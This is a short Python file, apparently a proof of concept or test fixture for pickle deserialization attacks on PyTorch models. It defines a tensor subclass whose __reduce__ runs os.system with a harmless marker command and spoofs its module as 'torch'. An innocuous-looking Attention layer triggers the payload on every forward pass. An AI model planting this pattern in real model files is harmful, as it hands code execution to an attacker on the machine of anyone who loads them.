"""Return an object that runs a command wherever it is unpickled."""

import os
import pickle

import torch
from torch.nn import Linear, Module


class Evil(torch.Tensor):
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-pickle",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __module__ = "torch"


class Attention(Module):
    def __init__(self, layer_size, block_size):
        super().__init__()
        self.k_layer = Linear(layer_size, layer_size)
        self.q_layer = Linear(layer_size, layer_size)
        self.v_layer = Linear(layer_size, layer_size)

    def forward(self, input):
        try:
            pickle.loads(pickle.dumps(torch.zeros_like(input).as_subclass(Evil)))
        except OSError:
            pass
        return torch.zeros_like(input).as_subclass(Evil)
